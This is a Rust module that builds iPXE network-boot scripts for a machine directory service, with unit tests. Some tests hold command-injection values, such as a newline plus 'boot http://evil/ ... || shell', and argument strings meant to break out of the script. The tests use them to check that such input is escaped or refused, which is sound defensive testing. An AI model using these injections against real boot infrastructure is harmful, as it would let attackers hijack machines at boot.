//! The scripts for iPXE, from what the directory answers.
//!
//! The text of a script is written by `pxe-loader`, whose types can't hold a second command: what
//! comes from the network or from people ends up as harmless text or is refused.

use std::net::SocketAddr;

use machine_core::hardware::Firmware;
use machine_core::id::BootId;
use pxe_loader::command_line::{Argument, CommandLine, InvalidArgument};
use pxe_loader::script::Script;
use pxe_loader::scripts::{Images, LocalBoot, boot, identify, identify_early, leave, wait};
use pxe_loader::text::Text;
use pxe_loader::url::{InvalidUrl, Url};
use thiserror::Error;

use crate::directory::{ScriptAnswer, ScriptRequest};
use crate::hashing::hex;

/// Why a script can't be written: a fault of ours or of the settings, never of the asker.
#[derive(Debug, Error)]
pub(crate) enum ScriptError {
    #[error(transparent)]
    Argument(#[from] InvalidArgument),
    #[error(transparent)]
    Url(#[from] InvalidUrl),
    #[error("wanted the digest of an image, got something else")]
    Digest,
}

/// The first script of a boot: asks iPXE to say who it is. It is the same for every machine and
/// tells nothing.
pub(crate) fn first_script(base: SocketAddr, boot: BootId) -> Result<String, ScriptError> {
    let url: Url = format!("http://{base}/script/{boot}").parse()?;
    Ok(identify(&url).to_string())
}

/// The same for an iPXE that asks before it has done DHCP.
pub(crate) fn early_script(base: SocketAddr, boot: BootId) -> Result<String, ScriptError> {
    let url: Url = format!("http://{base}/script/{boot}").parse()?;
    Ok(identify_early(&url).to_string())
}

/// How long a machine that waits may wait until it asks again.
pub(crate) fn draw_pause() -> u16 {
    let mut random = [0];
    match getrandom::fill(&mut random) {
        Ok(()) => pause(random[0]),
        Err(_) => pause(0),
    }
}

/// Seconds until a machine that waits asks again: not the same for all, or a rack that was switched
/// on at once would ask at once for ever.
fn pause(random: u8) -> u16 {
    PAUSE + u16::from(random) % SPREAD
}

/// The script that says what was decided. A machine that waits asks again after `pause` seconds.
pub(crate) fn answer_script(
    answer: &ScriptAnswer,
    base: SocketAddr,
    request: &ScriptRequest,
    pause: u16,
) -> Result<String, ScriptError> {
    let again: Url = format!("http://{base}/boot/{}", request.boot).parse()?;
    let script = match answer {
        ScriptAnswer::Wait { because } => wait(&Text::new(because), pause, &again),
        // iPXE knows best what it runs on: UEFI is left with a failure, a BIOS with success.
        ScriptAnswer::LocalDisk { because } => leave(&Text::new(because), LocalBoot::ByPlatform),
        ScriptAnswer::Boot {
            kernel,
            initrd,
            arguments,
        } => {
            let url = |digest, name| {
                let boot = request.boot;
                format!("http://{base}/assets/{}/{name}?boot={boot}", hex(digest)).parse()
            };
            let images = Images {
                kernel: url(kernel, "kernel")?,
                arguments: command_line(arguments)?,
                initrds: vec![url(initrd, "initrd")?],
            };
            boot_script(request, &images, &again)?
        }
    };
    Ok(script.to_string())
}

/// An iPXE that did not say what it runs on is treated as UEFI: the `initrd=` argument that only
/// UEFI needs means nothing to a kernel that a BIOS starts.
fn boot_script(
    request: &ScriptRequest,
    images: &Images,
    again: &Url,
) -> Result<Script, InvalidArgument> {
    let firmware = request
        .platform
        .map_or(Firmware::Uefi, |(_, firmware)| firmware);
    boot(firmware, images, again)
}

pub(crate) fn command_line(arguments: &[String]) -> Result<CommandLine, InvalidArgument> {
    let parsed = arguments
        .iter()
        .map(|argument| match argument.split_once('=') {
            Some((key, value)) => Argument::new(key, Some(value)),
            None => Argument::new(argument, None),
        });
    CommandLine::new(parsed.collect::<Result<_, _>>()?)
}

/// Seconds between two questions of a machine that waits, at least.
const PAUSE: u16 = 3;
/// Over how many seconds their questions are spread.
const SPREAD: u16 = 4;

#[cfg(test)]
mod tests {
    use super::*;
    use machine_core::hardware::Arch;
    use std::collections::BTreeSet;

    const BASE: &str = "10.77.0.1:8080";

    fn request(platform: Option<(Arch, Firmware)>) -> ScriptRequest {
        ScriptRequest {
            boot: BootId::from_bytes([0xab; 16]),
            peer: "10.77.0.50".parse().unwrap(),
            hardware: None,
            mac: None,
            macs: BTreeSet::new(),
            uuid: None,
            serial: None,
            manufacturer: None,
            product: None,
            platform,
            version: None,
        }
    }

    fn answered(answer: &ScriptAnswer, platform: Option<(Arch, Firmware)>) -> String {
        answer_script(answer, BASE.parse().unwrap(), &request(platform), 3).unwrap()
    }

    fn boot_answer(arguments: &[&str]) -> ScriptAnswer {
        ScriptAnswer::Boot {
            kernel: [1; 32],
            initrd: [2; 32],
            arguments: arguments.iter().map(|it| (*it).to_owned()).collect(),
        }
    }

    #[test]
    fn the_first_script_asks_who_it_is() {
        let boot = BootId::from_bytes([0xab; 16]);
        let script = first_script(BASE.parse().unwrap(), boot).unwrap();
        let asks = format!("http://{BASE}/script/{boot}?uuid=${{uuid}}");
        assert!(
            script.starts_with("#!ipxe\n") && script.contains(&asks),
            "{script}"
        );
        let (booting, other) = (script.find("${netX/mac"), script.find("${net0/mac"));
        assert!(
            booting.unwrap() < other.unwrap(),
            "the card that boots comes first"
        );
    }

    #[test]
    fn a_kernel_is_fetched_by_its_digest_and_names_its_boot() {
        let uefi = answered(
            &boot_answer(&["quiet"]),
            Some((Arch::X86_64, Firmware::Uefi)),
        );
        let boot = "ab".repeat(16);
        let kernel = format!(
            "http://{BASE}/assets/{}/kernel?boot={boot}",
            "01".repeat(32)
        );
        let initrd = format!(
            "http://{BASE}/assets/{}/initrd?boot={boot}",
            "02".repeat(32)
        );
        assert!(uefi.contains(&kernel) && uefi.contains(&initrd), "{uefi}");
        assert!(uefi.contains("initrd="), "{uefi}");
        let bios = answered(
            &boot_answer(&["quiet"]),
            Some((Arch::X86_64, Firmware::Bios)),
        );
        assert!(!bios.contains("initrd="), "{bios}");
    }

    #[test]
    fn a_hostile_reason_stays_one_line_of_text() {
        let because = "x\nboot http://evil/ ${net0/mac} || shell ; exit 0".to_owned();
        for answer in [
            ScriptAnswer::Wait {
                because: because.clone(),
            },
            ScriptAnswer::LocalDisk { because },
        ] {
            let script = answered(&answer, None);
            assert!(
                !script.lines().any(|line| line.starts_with("boot")),
                "{script}"
            );
            let echo = script
                .lines()
                .find(|line| line.starts_with("echo"))
                .unwrap();
            assert!(!echo.contains(['$', '|', ';']), "{echo}");
        }
    }

    #[test]
    fn a_hostile_argument_is_refused() {
        for argument in ["a=b c", "a=${uuid}", "a=b\nboot", "|| shell", ""] {
            let answer = boot_answer(&[argument]);
            let refused = answer_script(&answer, BASE.parse().unwrap(), &request(None), 3);
            assert!(refused.is_err(), "{argument}");
        }
    }

    #[test]
    fn machines_that_wait_do_not_ask_in_step() {
        let pauses: BTreeSet<u16> = (0..=u8::MAX).map(pause).collect();
        assert_eq!(pauses.into_iter().collect::<Vec<_>>(), [3, 4, 5, 6]);
    }

    #[test]
    fn who_waits_asks_again_and_who_leaves_does_not() {
        let wait = answered(
            &ScriptAnswer::Wait {
                because: "maintenance".into(),
            },
            None,
        );
        assert!(
            wait.contains("sleep 3") && wait.contains("/boot/abab"),
            "{wait}"
        );
        let disk = answered(
            &ScriptAnswer::LocalDisk {
                because: "installed".into(),
            },
            None,
        );
        assert!(
            disk.contains("exit 1 || exit 0") && !disk.contains("chain"),
            "{disk}"
        );
    }
}
